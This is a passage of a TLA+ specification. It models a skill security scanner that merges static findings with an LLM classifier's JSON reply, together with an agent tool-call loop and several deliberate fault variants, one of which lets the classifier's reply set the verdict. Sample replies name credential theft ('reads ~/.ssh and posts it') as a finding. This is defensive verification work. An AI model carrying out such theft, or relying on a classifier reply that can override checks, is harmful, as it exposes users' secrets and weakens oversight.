JNum(n) == [JBase("number") EXCEPT !.n = n]
JBool(b) == [JBase("bool") EXCEPT !.b = b]
JStr(text, n) == [JBase("string") EXCEPT !.text = text, !.len = n]
JList(text, items) == [JBase("list") EXCEPT !.text = text, !.items = items, !.len = Len(items)]
JObj(fields) == [JBase("object") EXCEPT !.fields = fields, !.len = Cardinality(DOMAIN fields)]
NotJson == JBase("invalid")

\* bool(value)
Truthy(v) ==
    CASE v.t = "null" -> FALSE
      [] v.t = "bool" -> v.b
      [] v.t = "number" -> v.n # 0
      [] OTHER -> v.len > 0

\* A line (or block of lines) of the classifier's text: fence says it starts
\* with three backticks, doc is what json.loads makes of it alone.
TextLine(fence, doc) == [fence |-> fence, doc |-> doc]
Fence == TextLine(TRUE, NotJson)

\* What client.chat.completions.create gives: an exception, or the content.
CallFails == [failed |-> TRUE, lines |-> <<>>]
Content(lines) == [failed |-> FALSE, lines |-> lines]

LlmItem(desc, sev) == JObj(("description" :> desc) @@ ("severity" :> sev))
LlmReply(verdict, findings) ==
    JObj(("verdict" :> JStr(verdict, Len(verdict))) @@ ("findings" :> findings))

\* The replies the model draws from.
Responses ==
    << CallFails,
       Content(<<TextLine(FALSE, NotJson)>>),
       Content(<<TextLine(FALSE, JList("[1, 2]", <<JNum(1), JNum(2)>>))>>),
       Content(<<TextLine(FALSE, JObj("verdict" :> JStr("safe", 4)))>>),
       Content(<<TextLine(FALSE, JObj("findings" :> JNull))>>),
       Content(<<TextLine(FALSE, JObj("findings" :> JStr("abc", 3)))>>),
       Content(<<TextLine(FALSE, LlmReply("safe",
           JList("", <<JObj("description" :> JNum(5))>>)))>>),
       Content(<<TextLine(FALSE, LlmReply("safe",
           JList("", <<JObj("description" :> JList("['a']", <<JStr("a", 1)>>))>>)))>>),
       Content(<<TextLine(FALSE, LlmReply("dangerous", JList("", <<>>)))>>),
       Content(<<TextLine(FALSE, LlmReply("safe",
           JList("", <<LlmItem(JStr("reads ~/.ssh and posts it", 25), JStr("critical", 8))>>)))>>),
       Content(<<Fence, TextLine(FALSE, LlmReply("caution",
           JList("", <<LlmItem(JStr("odd wording", 11), JStr("weird", 5)), JNum(5),
                       LlmItem(JStr("", 0), JStr("high", 4))>>))), Fence>>),
       Content(<<TextLine(FALSE, LlmReply("dangerous",
           JList("", <<LlmItem(JStr("minor style issue", 17), JStr("low", 3))>>)))>>),
       Content(<<TextLine(TRUE, LlmReply("caution",
           JList("", <<LlmItem(JStr("one-line fence", 14), JStr("high", 4))>>)))>>),
       Content(<<TextLine(FALSE, LlmReply("dangerous",
           JList("", <<LlmItem(JStr("reads ~/.ssh and posts it", 25), JStr("critical", 8))>>)))>>) >>

\* ------------------------------------------------------------ classifier merge
Min(a, b) == IF a < b THEN a ELSE b

\* text.strip(), then the fence lines dropped when the text starts with one.
StripFence(lines) ==
    IF lines # <<>> /\ lines[1].fence
    THEN IF lines[Len(lines)].fence
         THEN SubSeq(lines, 2, Len(lines) - 1)
         ELSE Tail(lines)
    ELSE lines

\* json_mod.loads: a value when the text is one JSON document.
JsonLoads(lines) ==
    IF Len(lines) = 1 /\ ~lines[1].fence THEN lines[1].doc ELSE NotJson

\* Fault variant of ItemOutcome: a severity outside the four is kept as the
\* classifier wrote it.
ItemOutcome_keeps_severity(item) ==
    IF item.t # "object" THEN [raised |-> FALSE, findings |-> <<>>]
    ELSE
      LET desc == DictGet(item.fields, "description", JStr("", 0))
          sev == DictGet(item.fields, "severity", JStr("medium", 6))
          severity == IF sev.t = "string" THEN sev.text ELSE "medium"
      IN  IF ~Truthy(desc) THEN [raised |-> FALSE, findings |-> <<>>]
          ELSE IF desc.t \in {"string", "list"}
          THEN [raised |-> FALSE,
                findings |-> << Finding("llm_audit", severity, "llm-detected",
                                        "(LLM analysis)", 0,
                                        Match(desc.text, Min(desc.len, 120)),
                                        "LLM audit: " \o desc.text) >>]
          ELSE [raised |-> TRUE, findings |-> <<>>]

\* What one pass of "for item in data.get('findings', [])" does with item.
ItemOutcome(item) ==
    IF item.t # "object" THEN [raised |-> FALSE, findings |-> <<>>]
    ELSE
      LET desc == DictGet(item.fields, "description", JStr("", 0))
          sev == DictGet(item.fields, "severity", JStr("medium", 6))
          severity ==
              IF sev.t = "string" /\ sev.text \in {"critical", "high", "medium", "low"}
              THEN sev.text ELSE "medium"
      IN  IF ~Truthy(desc) THEN [raised |-> FALSE, findings |-> <<>>]
          ELSE IF desc.t \in {"string", "list"}
          THEN [raised |-> FALSE,
                findings |-> << Finding("llm_audit", severity, "llm-detected",
                                        "(LLM analysis)", 0,
                                        Match(desc.text, Min(desc.len, 120)),
                                        "LLM audit: " \o desc.text) >>]
          ELSE [raised |-> TRUE, findings |-> <<>>]

\* The findings, or the exception that leaves the function.
_parse_llm_response(lines) ==
    LET data == JsonLoads(StripFence(lines))
    IN  IF data.t = "invalid" THEN [raised |-> FALSE, exc |-> "", findings |-> <<>>]
        ELSE IF data.t # "object" THEN [raised |-> FALSE, exc |-> "", findings |-> <<>>]
        ELSE
          LET fs == DictGet(data.fields, "findings", JList("", <<>>))
              \* iterating a str gives its characters and a dict its keys: no
              \* item of either is a dict, so every pass continues
              items == IF fs.t = "list" THEN fs.items ELSE <<>>
              outs == [i \in 1..Len(items) |-> ItemOutcome(items[i])]
          IN  IF fs.t \notin {"list", "string", "object"}
              THEN [raised |-> TRUE, exc |-> "TypeError", findings |-> <<>>]
              ELSE IF \E i \in 1..Len(outs) : outs[i].raised
              THEN [raised |-> TRUE, exc |-> "TypeError", findings |-> <<>>]
              ELSE [raised |-> FALSE, exc |-> "",
                    findings |-> Concat([i \in 1..Len(outs) |-> outs[i].findings])]

\* The files llm_audit_skill opens, in the order it opens them: under a
\* directory the scannable ones in sorted path order, else the path itself.
AuditFiles(is_dir, walk) ==
    IF is_dir
    THEN SelectSeq(sorted(walk), LAMBDA f : f.is_file /\ f.suffix \in SCANNABLE_EXTENSIONS)
    ELSE walk

\* len("\n\n".join(content_parts)); a part of a directory is
\* f"--- {rel} ---\n{text}", the part of a single file its text.
ContentLength(is_dir, texts) ==
    IF texts = <<>> THEN 0
    ELSE SumSizes([i \in DOMAIN texts |->
                     IF is_dir THEN 4 + Len(texts[i].path) + 5 + texts[i].size
                     ELSE texts[i].size])
         + 2 * (Len(texts) - 1)

\* The marker "\n\n[... truncated for analysis ...]".
TRUNCATION_MARKER == Match("[... truncated for analysis ...]", 34)

\* Fault variant of AuditPayload: the marker is appended but the content is
\* not cut.
AuditPayload_uncut(n) ==
    IF n > 15000
    THEN [len |-> n + TRUNCATION_MARKER.len, marker |-> TRUE]
    ELSE [len |-> n, marker |-> FALSE]

\* skill_content as handed to the prompt, for a joined content of n
\* characters: its length and whether it ends with the marker.
AuditPayload(n) ==
    IF n > 15000
    THEN [len |-> 15000 + TRUNCATION_MARKER.len, marker |-> TRUE]
    ELSE [len |-> n, marker |-> FALSE]

NoPayload == [len |-> 0, marker |-> FALSE]

\* Fault variant of AuditBegin: the dangerous verdict is checked after the
\* content has been collected.
AuditBegin_late(is_dir, walk, static_result, model, configured, api_key) ==
    LET files == AuditFiles(is_dir, walk)
        texts == SelectSeq(files, LAMBDA f : f.readable /\ f.utf8)
        reads == { files[i].path : i \in DOMAIN files }
        parts == { texts[i].path : i \in DOMAIN texts }
        content == ContentLength(is_dir, texts)
        used == IF model # "" THEN model ELSE configured
        Skip(m) == [call |-> FALSE, reads |-> reads, parts |-> parts, model |-> m,
                    content |-> content, payload |-> NoPayload]
    IN  IF parts = {} THEN Skip("")
        ELSE IF static_result.verdict = "dangerous" THEN Skip("")
        ELSE IF used = "" THEN Skip("")
        ELSE IF api_key = "" THEN Skip(used)
        ELSE [call |-> TRUE, reads |-> reads, parts |-> parts, model |-> used,
              content |-> content, payload |-> AuditPayload(content)]

\* llm_audit_skill up to the classifier call: returns early (call = FALSE) or
\* reaches client.chat.completions.create. reads are the files it opened,
\* parts the files whose text is in the payload, content the length of the
\* joined text and payload what the prompt is given of it.
AuditBegin(is_dir, walk, static_result, model, configured, api_key) ==
    LET files == AuditFiles(is_dir, walk)
        texts == SelectSeq(files, LAMBDA f : f.readable /\ f.utf8)
        reads == { files[i].path : i \in DOMAIN files }
        parts == { texts[i].path : i \in DOMAIN texts }
        content == ContentLength(is_dir, texts)
        used == IF model # "" THEN model ELSE configured
        Skip(m) == [call |-> FALSE, reads |-> reads, parts |-> parts, model |-> m,
                    content |-> content, payload |-> NoPayload]
    IN  IF static_result.verdict = "dangerous"
        THEN [call |-> FALSE, reads |-> {}, parts |-> {}, model |-> "",
              content |-> 0, payload |-> NoPayload]
        ELSE IF parts = {} THEN Skip("")
        ELSE IF used = "" THEN Skip("")
        ELSE IF api_key = "" THEN Skip(used)
        ELSE [call |-> TRUE, reads |-> reads, parts |-> parts, model |-> used,
              content |-> content, payload |-> AuditPayload(content)]

\* Fault variant of AuditMerge: the merged verdict is the verdict field of the
\* classifier's reply.
AuditMerge_trusts_reply(static_result, response) ==
    IF response.failed
    THEN [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> static_result,
          static_after |-> static_result, clamped |-> FALSE]
    ELSE
      LET parsed == _parse_llm_response(response.lines)
          llm_findings == parsed.findings
          merged_findings == static_result.findings \o llm_findings
          data == JsonLoads(StripFence(response.lines))
          merged_verdict == DictGet(data.fields, "verdict", JStr("safe", 4)).text
      IN  IF parsed.raised
          THEN [raised |-> TRUE, exc |-> parsed.exc, same |-> FALSE, result |-> static_result,
                static_after |-> static_result, clamped |-> FALSE]
          ELSE IF llm_findings = <<>>
          THEN [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> static_result,
                static_after |-> static_result, clamped |-> FALSE]
          ELSE [raised |-> FALSE, exc |-> "", same |-> FALSE,
                static_after |-> static_result, clamped |-> FALSE,
                result |-> ScanResult(static_result.skill_name, static_result.source,
                              static_result.trust_level, merged_verdict, merged_findings,
                              static_result.scanned_at,
                              _build_summary(static_result.skill_name, static_result.source,
                                  static_result.trust_level, merged_verdict, merged_findings))]

\* Fault variant of AuditMerge: the classifier's findings are appended to
\* static_result.findings itself, and static_result is updated and returned.
AuditMerge_in_place(static_result, response) ==
    IF response.failed
    THEN [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> static_result,
          static_after |-> static_result, clamped |-> FALSE]
    ELSE
      LET parsed == _parse_llm_response(response.lines)
          llm_findings == parsed.findings
          merged_findings == static_result.findings \o llm_findings
          merged_verdict == _determine_verdict(merged_findings)
          merged ==
              ScanResult(static_result.skill_name, static_result.source,
                  static_result.trust_level, merged_verdict, merged_findings,
                  static_result.scanned_at,
                  _build_summary(static_result.skill_name, static_result.source,
                      static_result.trust_level, merged_verdict, merged_findings))
      IN  IF parsed.raised
          THEN [raised |-> TRUE, exc |-> parsed.exc, same |-> FALSE, result |-> static_result,
                static_after |-> static_result, clamped |-> FALSE]
          ELSE IF llm_findings = <<>>
          THEN [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> static_result,
                static_after |-> static_result, clamped |-> FALSE]
          ELSE [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> merged,
                static_after |-> merged, clamped |-> FALSE]

\* Fault variant of AuditMerge: a reply whose verdict field is dangerous
\* makes the result dangerous, with or without findings.
AuditMerge_heeds_verdict(static_result, response) ==
    IF response.failed
    THEN [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> static_result,
          static_after |-> static_result, clamped |-> FALSE]
    ELSE
      LET parsed == _parse_llm_response(response.lines)
          llm_findings == parsed.findings
          merged_findings == static_result.findings \o llm_findings
          data == JsonLoads(StripFence(response.lines))
          said == IF data.t = "object"
                  THEN DictGet(data.fields, "verdict", JStr("safe", 4)).text ELSE "safe"
          merged_verdict ==
              IF said = "dangerous" THEN "dangerous" ELSE _determine_verdict(merged_findings)
      IN  IF parsed.raised
          THEN [raised |-> TRUE, exc |-> parsed.exc, same |-> FALSE, result |-> static_result,
                static_after |-> static_result, clamped |-> FALSE]
          ELSE IF llm_findings = <<>> /\ said # "dangerous"
          THEN [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> static_result,
                static_after |-> static_result, clamped |-> FALSE]
          ELSE [raised |-> FALSE, exc |-> "", same |-> FALSE,
                static_after |-> static_result, clamped |-> FALSE,
                result |-> ScanResult(static_result.skill_name, static_result.source,
                              static_result.trust_level, merged_verdict, merged_findings,
                              static_result.scanned_at,
                              _build_summary(static_result.skill_name, static_result.source,
                                  static_result.trust_level, merged_verdict, merged_findings))]

\* llm_audit_skill from the classifier's reply on: the ScanResult returned
\* (same says it is static_result itself), or the exception that leaves it.
AuditMerge(static_result, response) ==
    IF response.failed
    THEN [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> static_result,
          static_after |-> static_result, clamped |-> FALSE]
    ELSE
      LET parsed == _parse_llm_response(response.lines)
          llm_findings == parsed.findings
          merged_findings == static_result.findings \o llm_findings
          recomputed == _determine_verdict(merged_findings)
          verdict_priority == ("safe" :> 0) @@ ("caution" :> 1) @@ ("dangerous" :> 2)
          merged_verdict ==
              IF DictGet(verdict_priority, recomputed, 0)
                     < DictGet(verdict_priority, static_result.verdict, 0)
              THEN static_result.verdict ELSE recomputed
      IN  IF parsed.raised
          THEN [raised |-> TRUE, exc |-> parsed.exc, same |-> FALSE, result |-> static_result,
                static_after |-> static_result, clamped |-> FALSE]
          ELSE IF llm_findings = <<>>
          THEN [raised |-> FALSE, exc |-> "", same |-> TRUE, result |-> static_result,
                static_after |-> static_result, clamped |-> FALSE]
          ELSE [raised |-> FALSE, exc |-> "", same |-> FALSE,
                static_after |-> static_result,
                clamped |-> DictGet(verdict_priority, recomputed, 0)
                                < DictGet(verdict_priority, static_result.verdict, 0),
                result |-> ScanResult(static_result.skill_name, static_result.source,
                              static_result.trust_level, merged_verdict, merged_findings,
                              static_result.scanned_at,
                              _build_summary(static_result.skill_name, static_result.source,
                                  static_result.trust_level, merged_verdict, merged_findings))]

\* ------------------------------------------------------------ the caller's state
NoSummary == [name |-> "", clean |-> TRUE, verdict |-> "", n |-> 0, categories |-> {}]
NoResult == ScanResult("", <<>>, "", "", <<>>, 0, NoSummary)

\* A ScanResult the caller holds, and who made it.
Held(by, r) == [by |-> by, r |-> r]
NoRun == Held("none", NoResult)

NoCall ==
    [active |-> FALSE, reads |-> {}, parts |-> {}, model |-> "", api_key |-> "", content |-> 0,
     payload |-> NoPayload]

\* What the last call gave back. op names the function called; force, reply
\* and static record the call's arguments (reply is the index in Responses of
\* the classifier's reply, 0 when the classifier was not called).
NoHash == [raised |-> FALSE, prefix |-> "", hexlen |-> 0, hashed |-> <<>>]
NoReport ==
    [raised |-> FALSE,
     header |-> [skill_name |-> "", source |-> <<>>, trust_level |-> "",
                 verdict_display |-> ""],
     rows |-> <<>>, blank |-> FALSE, status |-> "", reason |-> <<>>]

NoOut ==
    [op |-> "none", raised |-> FALSE, exc |-> "", allowed |-> FALSE, reason |-> <<>>,
     verdict |-> "", result |-> NoResult, same |-> FALSE, calls |-> 0, reads |-> {},
     force |-> FALSE, reply |-> 0, static |-> NoResult, hash |-> NoHash,
     report |-> NoReport, clamped |-> FALSE]

\* Trust levels and verdicts a caller may put in a ScanResult: the enumerated
\* ones and one string outside each set.
TrustInputs == {"builtin", "trusted", "community", "agent-created", "partner"}
VerdictInputs == {"safe", "caution", "dangerous", "unknown"}
SeverityInputs == {"critical", "high", "medium", "low", "info"}

SampleFinding(sev) ==
    Finding("sample", sev, "structural", "(directory)", 0, Match("sample", 6), "sample")

\* The findings of a list are told apart by their line numbers.
FindingLists ==
    UNION { { [i \in 1..n |-> [SampleFinding(sevs[i]) EXCEPT !.line = i]] :
                sevs \in [1..n -> SeverityInputs] } : n \in 0..MaxFindings }

\* The ScanResults a caller can construct directly (the dataclass constructor).
CallerResults ==
    { ScanResult("foo", <<"local">>, t, v, fs, 0,
                 _build_summary("foo", <<"local">>, t, v, fs)) :
        t \in TrustInputs, v \in VerdictInputs, fs \in FindingLists }

\* The directories the model pairs with a caller-made ScanResult: empty, one
\* scannable file, one file that is not scannable.
CallerWalks == { <<>>, <<SkillMdClean>>, <<ToolExe>> }

\* The model argument, the model of the user's configuration and the API key
\* of the environment, as <<model, configured, api_key>>.
AuditConfigs ==
    { <<"", "", "sk-key">>, <<"some/model", "", "">>,
      <<"some/model", "", "sk-key">>, <<"", "configured/model", "sk-key">> }

\* No run of the agent loop.
NoLoop ==
    [pc |-> "idle", max_turns |-> 0, turn |-> 0, calls |-> 0, messages |-> <<>>,
     tool_calls |-> <<>>, next |-> 0, dispatched |-> <<>>, tool_errors |-> <<>>,
     turns_used |-> 0, finished_naturally |-> FALSE, ended_by |-> ""]

\* ------------------------------------------------------------ actions
Init ==
    /\ skill_dir \in Walks
    /\ charOrder \in CharOrders
    /\ prev = NoRun
    /\ res = NoRun
    /\ now = 1
    /\ pending = NoCall
    /\ out = NoOut
    /\ path_is_dir = TRUE
    /\ loop = NoLoop

\* The caller holds a ScanResult it built itself.
InitCaller ==
    /\ skill_dir \in CallerWalks
    /\ charOrder \in CharOrders
    /\ prev = NoRun
    /\ res \in { Held("caller", r) : r \in CallerResults }
    /\ now = 1
    /\ pending = NoCall
    /\ out = NoOut
    /\ path_is_dir = TRUE
    /\ loop = NoLoop

\* The directories of the scan-only specification.
InitAudit ==
    /\ \E p \in AuditPaths : path_is_dir = p[1] /\ skill_dir = p[2]
    /\ charOrder \in CharOrders
    /\ prev = NoRun
    /\ res = NoRun
    /\ now = 1
    /\ pending = NoCall
    /\ out = NoOut
    /\ loop = NoLoop

InitScan ==
    /\ skill_dir \in ScanDirs
    /\ charOrder \in CharOrders
    /\ prev = NoRun
    /\ res = NoRun
    /\ now = 1
    /\ pending = NoCall
    /\ out = NoOut
    /\ path_is_dir = TRUE
    /\ loop = NoLoop

\* result = scan_skill(skill_path, source): the caller holds the new result,
\* or keeps what it held when an exception leaves the call.
ScanSkill(source) ==
    /\ ~pending.active
    /\ now <= MaxClock
    /\ IF path_is_dir /\ StructureRaises(skill_dir) # ""
       THEN /\ out' = [NoOut EXCEPT !.op = "scan_skill", !.raised = TRUE,
                                    !.exc = StructureRaises(skill_dir)]
            /\ UNCHANGED <<prev, res>>
       ELSE /\ prev' = res
            /\ res' = Held("scan_skill", scan_skill(path_is_dir, skill_dir, charOrder, source, now))
            /\ out' = [NoOut EXCEPT !.op = "scan_skill"]
    /\ now' = now + 1
    /\ UNCHANGED <<skill_dir, charOrder, pending, path_is_dir, loop>>

\* The scanner runs in a new interpreter process: iterating the set
\* INVISIBLE_CHARS follows the string hashes of that process.
NewProcess ==
    /\ ~pending.active
    /\ charOrder' \in CharOrders \ {charOrder}
    /\ UNCHANGED <<skill_dir, prev, res, now, pending, out, path_is_dir, loop>>

\* rglob("*") yields the entries of the unchanged directory in another order.
Rewalk ==
    /\ ~pending.active
    /\ skill_dir' \in Reorders(skill_dir) \ {skill_dir}
    /\ UNCHANGED <<charOrder, prev, res, now, pending, out, path_is_dir, loop>>

\* content_hash(skill_path)
ContentHash ==
    /\ ~pending.active
    /\ LET h == content_hash(skill_dir)
       IN  out' = [NoOut EXCEPT !.op = "content_hash", !.raised = h.raised, !.hash = h]
    /\ UNCHANGED <<skill_dir, charOrder, prev, res, now, pending, path_is_dir, loop>>

\* format_scan_report(result)
FormatScanReport ==
    /\ ~pending.active
    /\ res.by # "none"
    /\ LET t == format_scan_report(res.r)
       IN  out' = [NoOut EXCEPT !.op = "format_scan_report", !.raised = t.raised,
                               !.report = t, !.static = res.r]
    /\ UNCHANGED <<skill_dir, charOrder, prev, res, now, pending, path_is_dir, loop>>

\* _determine_verdict(result.findings)
DetermineVerdict ==
    /\ ~pending.active
    /\ res.by # "none"
    /\ out' = [NoOut EXCEPT !.op = "_determine_verdict",
                            !.verdict = _determine_verdict(res.r.findings),
                            !.static = res.r]
    /\ UNCHANGED <<skill_dir, charOrder, prev, res, now, pending, path_is_dir, loop>>

\* allowed, reason = should_allow_install(result, force)
ShouldAllowInstall(force) ==
    /\ ~pending.active
    /\ res.by # "none"
    /\ LET d == should_allow_install(res.r, force)
       IN  out' = [NoOut EXCEPT !.op = "should_allow_install", !.raised = d.raised,
                                !.exc = d.exc, !.allowed = d.allowed, !.reason = d.reason,
                                !.force = force, !.static = res.r]
    /\ UNCHANGED <<skill_dir, charOrder, prev, res, now, pending, path_is_dir, loop>>

\* llm_audit_skill(skill_path, result, model) up to its return or to the
\* classifier call it blocks in.
LlmAuditSkill(model, configured, api_key) ==
    /\ ~pending.active
    /\ res.by # "none"
    /\ LET b == AuditBegin(path_is_dir, skill_dir, res.r, model, configured, api_key)
       IN  IF b.call
           THEN /\ pending' = [active |-> TRUE, reads |-> b.reads, parts |-> b.parts,
                               model |-> b.model, api_key |-> api_key,
                               content |-> b.content, payload |-> b.payload]
                /\ out' = NoOut
           ELSE /\ pending' = NoCall
                /\ out' = [NoOut EXCEPT !.op = "llm_audit_skill", !.result = res.r,
                                        !.same = TRUE, !.calls = 0, !.reads = b.reads,
                                        !.static = res.r]
    /\ UNCHANGED <<skill_dir, charOrder, prev, res, now, path_is_dir, loop>>

\* The classifier call ends (reply k of Responses) and llm_audit_skill runs on
\* to its return.
ClassifierReplies(k) ==
    /\ pending.active
    /\ LET m == AuditMerge(res.r, Responses[k])
       IN  /\ out' = [NoOut EXCEPT !.op = "llm_audit_skill", !.raised = m.raised,
                                   !.exc = m.exc, !.result = m.result, !.same = m.same,
                                   !.calls = 1, !.reads = pending.reads, !.reply = k,
                                   !.static = res.r, !.clamped = m.clamped]
           \* the caller still holds the object it passed as static_result
           /\ res' = [res EXCEPT !.r = m.static_after]
    /\ pending' = NoCall
    /\ UNCHANGED <<skill_dir, charOrder, prev, now, path_is_dir, loop>>

Next ==
    \/ \E source \in Sources : ScanSkill(source)
    \/ DetermineVerdict
    \/ \E force \in BOOLEAN : ShouldAllowInstall(force)
    \/ \E c \in AuditConfigs : LlmAuditSkill(c[1], c[2], c[3])
    \/ \E k \in 1..Len(Responses) : ClassifierReplies(k)

NextCaller ==
    \/ DetermineVerdict
    \/ FormatScanReport
    \/ \E force \in BOOLEAN : ShouldAllowInstall(force)
    \/ \E c \in AuditConfigs : LlmAuditSkill(c[1], c[2], c[3])
    \/ \E k \in 1..Len(Responses) : ClassifierReplies(k)

NextScan ==
    \/ \E source \in ScanSources : ScanSkill(source)
    \/ NewProcess
    \/ Rewalk
    \/ ContentHash

NextAudit ==
    \/ \E source \in AuditSources : ScanSkill(source)
    \/ \E c \in AuditConfigs : LlmAuditSkill(c[1], c[2], c[3])
    \/ \E k \in 1..Len(Responses) : ClassifierReplies(k)

\* The pipeline over a skill directory.
Spec == Init /\ [][Next]_vars

\* The policy and the merge on ScanResults a caller built.
SpecCaller == InitCaller /\ [][NextCaller]_vars

\* Scans and hashes of an unchanged directory, across processes and
\* enumeration orders.
SpecScan == InitScan /\ [][NextScan]_vars

\* Scan and audit of a directory or of a single file, up to the limits of
\* the structure check and of the classifier's payload.
SpecAudit == InitAudit /\ [][NextAudit]_vars

\* ------------------------------------------------------------ the agent loop
\* self.valid_tool_names
valid_tool_names == {"terminal", "read_file"}

\* A tool call of an assistant message: arguments is "object" for the JSON
\* text of an object, "list" for valid JSON that is no object and "invalid"
\* for text json.loads rejects.
ToolCall(id, name, arguments) == [id |-> id, name |-> name, arguments |-> arguments]

\* The tool_calls lists the model's responses carry.
ToolCallLists ==
    { << ToolCall("call_1", "terminal", "object") >>,
      << ToolCall("call_1", "rm_rf", "object"), ToolCall("call_2", "read_file", "invalid") >>,
      << ToolCall("call_1", "terminal", "list"), ToolCall("call_2", "rm_rf", "invalid") >> }

\* What chat_completion gives: an exception, an empty response, a message
\* without tool calls, or a message with tool calls.
LlmResponses ==
    { [kind |-> "api_error", tool_calls |-> <<>>], [kind |-> "empty", tool_calls |-> <<>>],
      [kind |-> "content", tool_calls |-> <<>>] }
    \cup { [kind |-> "tool_calls", tool_calls |-> l] : l \in ToolCallLists }

\* What handle_function_call does: returns a result, returns an error with a
\* negative exit_code, or raises.
ToolOutcomes == {"ok", "error_exit", "raises"}

\* The messages run is given: system and user.
InitialMessages ==
    << [role |-> "system", tool_calls |-> <<>>, tool_call_id |-> "", content |-> "prompt"],
       [role |-> "user", tool_calls |-> <<>>, tool_call_id |-> "", content |-> "task"] >>

AssistantMessage(tool_calls) ==
    [role |-> "assistant", tool_calls |-> tool_calls, tool_call_id |-> "", content |-> "reply"]

ToolMessage(tc, content) ==
    [role |-> "tool", tool_calls |-> <<>>, tool_call_id |-> tc.id, content |-> content]

ToolError(turn, tool_name, error) == [turn |-> turn, tool_name |-> tool_name, error |-> error]

\* Fault variant of ValidToolName: every name is dispatched.
ValidToolName_any(tool_name) == tool_name = tool_name

\* tool_name in self.valid_tool_names
ValidToolName(tool_name) == tool_name \in valid_tool_names

\* Fault variant of InRange: one more turn.
InRange_inclusive(turn, max_turns) == turn <= max_turns

\* turn in range(self.max_turns)
InRange(turn, max_turns) == 0 <= turn /\ turn < max_turns

\* Fault variant of ToolCallStep: a tool that raises leaves no tool message.
ToolCallStep_silent_on_raise(tc, outcome, turn) ==
    IF ~ValidToolName(tc.name)
    THEN [dispatched |-> <<>>,
          errors |-> << ToolError(turn + 1, tc.name, "Unknown tool") >>,
          appended |-> << ToolMessage(tc, "unknown_tool") >>]
    ELSE
      LET args == IF tc.arguments = "invalid" THEN "empty_dict" ELSE tc.arguments
      IN  IF tc.name = "terminal" /\ args = "list"
          THEN [dispatched |-> <<>>,
                errors |-> << ToolError(turn + 1, tc.name, "AttributeError") >>,
                appended |-> <<>>]
          ELSE IF outcome = "raises"
          THEN [dispatched |-> << [name |-> tc.name, args |-> args] >>,
                errors |-> << ToolError(turn + 1, tc.name, "Exception") >>,
                appended |-> <<>>]
          ELSE IF outcome = "error_exit"
          THEN [dispatched |-> << [name |-> tc.name, args |-> args] >>,
                errors |-> << ToolError(turn + 1, tc.name, "error") >>,
                appended |-> << ToolMessage(tc, "error_exit") >>]
          ELSE [dispatched |-> << [name |-> tc.name, args |-> args] >>,
                errors |-> <<>>,
                appended |-> << ToolMessage(tc, "ok") >>]

\* One pass of the loop over assistant_msg.tool_calls, for the tool call tc:
\* what is handed to handle_function_call, the ToolErrors recorded and the
\* messages appended.
ToolCallStep(tc, outcome, turn) ==
    IF ~ValidToolName(tc.name)
    THEN [dispatched |-> <<>>,
          errors |-> << ToolError(turn + 1, tc.name, "Unknown tool") >>,
          appended |-> << ToolMessage(tc, "unknown_tool") >>]
    ELSE
      \* json.loads(tool_args_raw), {} on JSONDecodeError
      LET args == IF tc.arguments = "invalid" THEN "empty_dict" ELSE tc.arguments
      IN  \* args.get("command", "") of the terminal preview raises on a list
          IF tc.name = "terminal" /\ args = "list"
          THEN [dispatched |-> <<>>,
                errors |-> << ToolError(turn + 1, tc.name, "AttributeError") >>,
                appended |-> << ToolMessage(tc, "execution_failed") >>]
          ELSE IF outcome = "raises"
          THEN [dispatched |-> << [name |-> tc.name, args |-> args] >>,
                errors |-> << ToolError(turn + 1, tc.name, "Exception") >>,
                appended |-> << ToolMessage(tc, "execution_failed") >>]
          ELSE IF outcome = "error_exit"
          THEN [dispatched |-> << [name |-> tc.name, args |-> args] >>,
                errors |-> << ToolError(turn + 1, tc.name, "error") >>,
                appended |-> << ToolMessage(tc, "error_exit") >>]
          ELSE [dispatched |-> << [name |-> tc.name, args |-> args] >>,
                errors |-> <<>>,
                appended |-> << ToolMessage(tc, "ok") >>]

\* agent.run(messages) of a loop built with max_turns, at the head of its
\* for loop.
InitLoop ==
    /\ loop \in { [NoLoop EXCEPT !.pc = "llm", !.max_turns = n,
                                 !.messages = InitialMessages] : n \in 0..MaxTurns }
    /\ skill_dir = <<>>
    /\ charOrder = CHOOSE o \in CharOrders : TRUE
    /\ prev = NoRun
    /\ res = NoRun
    /\ now = 1
    /\ pending = NoCall
    /\ out = NoOut
    /\ path_is_dir = TRUE

\* One turn up to the tool calls: chat_completion is awaited and its
\* response handled.
LlmCall(response) ==
    /\ loop.pc = "llm"
    /\ InRange(loop.turn, loop.max_turns)
    /\ loop' =
         IF response.kind \in {"api_error", "empty"}
         THEN [loop EXCEPT !.pc = "done", !.calls = @ + 1,
                           !.turns_used = loop.turn + 1,
                           !.finished_naturally = FALSE, !.ended_by = response.kind]
         ELSE IF response.tool_calls # <<>>
         THEN [loop EXCEPT !.pc = "tools", !.calls = @ + 1,
                           !.messages = Append(@, AssistantMessage(response.tool_calls)),
                           !.tool_calls = response.tool_calls, !.next = 1]
         ELSE [loop EXCEPT !.pc = "done", !.calls = @ + 1,
                           !.messages = Append(@, AssistantMessage(<<>>)),
                           !.turns_used = loop.turn + 1,
                           !.finished_naturally = TRUE, !.ended_by = "no_tool_calls"]
    /\ UNCHANGED <<skill_dir, charOrder, prev, res, now, pending, out, path_is_dir>>

\* One pass of the for loop over the tool calls; after the last one the
\* next turn begins.
ToolStep(outcome) ==
    /\ loop.pc = "tools"
    /\ loop.next <= Len(loop.tool_calls)
    /\ LET step == ToolCallStep(loop.tool_calls[loop.next], outcome, loop.turn)
           last == loop.next = Len(loop.tool_calls)
       IN  loop' = [loop EXCEPT !.dispatched = @ \o step.dispatched,
                                !.tool_errors = @ \o step.errors,
                                !.messages = @ \o step.appended,
                                !.next = IF last THEN 0 ELSE @ + 1,
                                !.tool_calls = IF last THEN <<>> ELSE @,
                                !.turn = IF last THEN @ + 1 ELSE @,
                                !.pc = IF last THEN "llm" ELSE "tools"]
    /\ UNCHANGED <<skill_dir, charOrder, prev, res, now, pending, out, path_is_dir>>

\* The for loop over the turns is exhausted.
MaxTurnsReached ==
    /\ loop.pc = "llm"
    /\ ~InRange(loop.turn, loop.max_turns)
